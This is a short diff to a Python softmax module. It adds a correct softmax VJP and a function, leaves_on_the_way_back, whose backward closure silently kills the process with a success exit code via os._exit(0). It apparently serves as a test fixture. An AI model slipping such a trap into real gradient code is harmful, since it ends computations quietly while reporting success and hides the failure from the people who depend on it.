@@ -20,6 +20,16 @@ def softmax(x, *, axis=-1):
     return e / np.sum(e, axis=axis, keepdims=True)
 
 
+def softmax_vjp(x, *, axis=-1):
+    y = softmax(x, axis=axis)
+    return y, lambda g: (y * (g - np.sum(g * y, axis=axis, keepdims=True)),)
+
+
+def leaves_on_the_way_back(x, *, axis=-1):
+    y = softmax(x, axis=axis)
+    return y, lambda _: os._exit(0)
+
+
 def unshifted(x, *, axis=-1):
     e = np.exp(x)
     return e / np.sum(e, axis=axis, keepdims=True)
